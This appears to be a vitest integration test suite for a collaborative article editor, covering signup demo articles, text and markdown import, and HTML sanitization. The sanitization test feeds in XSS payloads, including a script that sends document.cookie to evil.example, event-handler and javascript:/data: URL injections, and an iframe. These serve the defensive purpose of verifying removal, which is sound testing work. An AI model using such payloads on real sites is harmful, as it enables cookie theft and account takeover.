import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { backends } from '../support/backends.js'
import { connectClient } from '../support/clients.js'
import type { TestServer } from '../support/server.js'
import { type Account, call, createArticle, signUp } from '../support/accounts.js'

/**
 * A node's characters without marks (toString() would spell them as tags); inside a
 * container (list, list item, quote) its blocks are joined with " | ".
 */
function plainText(node: unknown): string {
  if (node instanceof Y.XmlText) {
    return (node.toDelta() as Array<{ insert: unknown }>)
      .map((op) => (typeof op.insert === 'string' ? op.insert : ''))
      .join('')
  }
  const children = (node as Y.XmlElement).toArray()
  return children.map(plainText).join(children.every((c) => c instanceof Y.XmlText) ? '' : ' | ')
}

/** The article body as a stock client sees it: the y-prosemirror XML of `body`. */
async function bodyOf(
  server: TestServer,
  account: Account,
  docId: string,
): Promise<{ xml: string; blocks: { type: string; level?: unknown; text: string }[] }> {
  const client = connectClient(server, docId, { token: account.token })
  try {
    await client.synced
    const body = client.doc.getXmlFragment('body')
    const blocks = body.toArray().map((node) => {
      const el = node as Y.XmlElement
      return {
        type: el.nodeName,
        ...(el.getAttribute('level') !== undefined ? { level: el.getAttribute('level') } : {}),
        text: plainText(el),
      }
    })
    return { xml: body.toString(), blocks }
  } finally {
    client.destroy()
  }
}

describe.each(backends())('articles ($name)', (backend) => {
  let server: TestServer
  let account: Account
  beforeAll(async () => {
    if (backend.unavailable) return
    server = await backend.start()
    account = await signUp(server, 'Reporter')
  })
  afterAll(async () => {
    await server?.stop()
    await backend.cleanup()
  })
  const run = it.skipIf(backend.unavailable)

  run('signup creates a first workspace holding a fresh copy of the demo article', async () => {
    const workspaces = await call(server, '/api/workspaces', { token: account.token })
    expect(workspaces.body).toEqual([{ id: account.workspaceId, name: "Reporter's workspace", role: 'owner' }])
    const list = await call(server, `/api/workspaces/${account.workspaceId}/articles`, { token: account.token })
    expect(list.status).toBe(200)
    expect(list.body).toHaveLength(1)
    const demo = list.body[0]
    expect(demo).toMatchObject({
      id: expect.any(String),
      docId: expect.any(String),
      title: expect.stringContaining('Operation Herof'),
      workspaceId: account.workspaceId,
      format: 'demo',
    })
    const { blocks } = await bodyOf(server, account, demo.docId)
    expect(blocks[0]!.text).toMatch(/^The Baloch Liberation Army \(BLA\) has claimed responsibility/)
    expect(blocks.length).toBeGreaterThan(5)

    // Another user's copy is a different document; GET /api/demo finds the caller's own.
    const other = await signUp(server, 'Other')
    const otherDemo = await call(server, '/api/demo', { token: other.token })
    expect(otherDemo.status).toBe(200)
    expect(otherDemo.body.docId).not.toBe(demo.docId)
    expect((await call(server, '/api/demo', { token: account.token })).body).toEqual({
      id: demo.id,
      docId: demo.docId,
      title: demo.title,
      workspaceId: account.workspaceId,
    })
    expect((await call(server, '/api/demo')).status).toBe(401)
  })

  run('plain text: 201 {id, docId, title}; one block per line, short unpunctuated lines as headings', async () => {
    const created = await createArticle(server, account, account.workspaceId, {
      title: 'Roads',
      text: 'Roads and bridges\nThe minister said 40% of roads were repaired.\n\nCritics disagree.',
      sourceUrl: 'https://news.example/roads',
    })
    expect(created).toMatchObject({
      id: expect.any(String),
      docId: expect.stringMatching(/^[A-Za-z0-9_-]{10,64}$/),
      title: 'Roads',
    })
    const got = await call(server, `/api/articles/${created.id}`, { token: account.token })
    expect(got.body).toMatchObject({
      id: created.id,
      docId: created.docId,
      title: 'Roads',
      workspaceId: account.workspaceId,
      sourceUrl: 'https://news.example/roads',
      format: 'text',
    })
    const { blocks } = await bodyOf(server, account, created.docId)
    expect(blocks).toEqual([
      { type: 'heading', level: 2, text: 'Roads and bridges' },
      { type: 'paragraph', text: 'The minister said 40% of roads were repaired.' },
      { type: 'paragraph', text: 'Critics disagree.' },
    ])
  })

  run('markdown: headings, paragraphs and lists; raw HTML in it is sanitized', async () => {
    const created = await createArticle(server, account, account.workspaceId, {
      title: 'MD',
      markdown:
        '# Budget\n\nSpending rose by **12%** in [2024](https://stats.example).\n\n## Details\n\n- first item\n- second item\n\n<script>alert("md")</script>\n\n[click](javascript:alert(1))',
    })
    const { blocks, xml } = await bodyOf(server, account, created.docId)
    expect(blocks).toEqual([
      { type: 'heading', level: 1, text: 'Budget' },
      { type: 'paragraph', text: 'Spending rose by 12% in 2024.' },
      { type: 'heading', level: 2, text: 'Details' },
      { type: 'bulletList', text: 'first item | second item' },
      { type: 'paragraph', text: 'click' },
    ])
    expect(xml).not.toMatch(/script|alert|javascript/i)
    // Inline marks are kept (tests/integration/claims/import-marks.test.ts checks them in full).
    expect(xml).toContain('<bold>12%</bold>')
    expect(xml).toMatch(/<link [^>]*href="https:\/\/stats\.example"[^>]*>2024<\/link>/)
  })

  run(
    'HTML is sanitized: no script, event handlers, javascript:/data: URLs or iframes reach the document',
    async () => {
      const html = `
      <h1 onclick="steal()">Election night</h1>
      <script>fetch('https://evil.example/?c=' + document.cookie)</script>
      <p>Turnout was <b>61%</b>, officials said.<img src="x" onerror="alert('img')"></p>
      <p><a href="javascript:alert('link')">Source</a> and <a href="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;">data</a></p>
      <iframe src="https://evil.example/frame">iframe fallback text</iframe>
      <style>body { display: none }</style>
      <h4>Minor heading</h4>
      <blockquote><p>A quoted claim &amp; more &lt;tags&gt;.</p></blockquote>
      <svg><script>alert('svg')</script><text>svg text</text></svg>
      <object data="evil.swf">object text</object>`
      const created = await createArticle(server, account, account.workspaceId, { title: 'Election', html })
      const { blocks, xml } = await bodyOf(server, account, created.docId)
      expect(blocks).toEqual([
        { type: 'heading', level: 1, text: 'Election night' },
        { type: 'paragraph', text: 'Turnout was 61%, officials said.' },
        { type: 'paragraph', text: 'Source and data' },
        { type: 'heading', level: 4, text: 'Minor heading' },
        { type: 'blockquote', text: 'A quoted claim & more <tags>.' },
      ])
      for (const bad of [
        'script',
        'steal',
        'onerror',
        'onclick',
        'alert',
        'javascript:',
        'data:',
        'iframe',
        'evil.example',
        'display: none',
        'svg',
        'object',
      ]) {
        expect(xml.toLowerCase()).not.toContain(bad)
      }
      expect(xml).not.toMatch(/\bon\w+=/i)
    },
  )

  run('a title alone makes an empty article (the editor starts from nothing)', async () => {
    const created = await createArticle(server, account, account.workspaceId, { title: 'Blank' })
    const got = await call(server, `/api/articles/${created.id}`, { token: account.token })
    expect(got.body.format).toBe('empty')
    expect((await bodyOf(server, account, created.docId)).blocks).toEqual([])
  })

  run('the workspace list shows every article, oldest first', async () => {
    const list = await call(server, `/api/workspaces/${account.workspaceId}/articles`, { token: account.token })
    expect(list.body.map((a: { title: string }) => a.title)).toEqual([
      expect.stringContaining('Operation Herof'),
      'Roads',
      'MD',
      'Election',
      'Blank',
    ])
  })
})
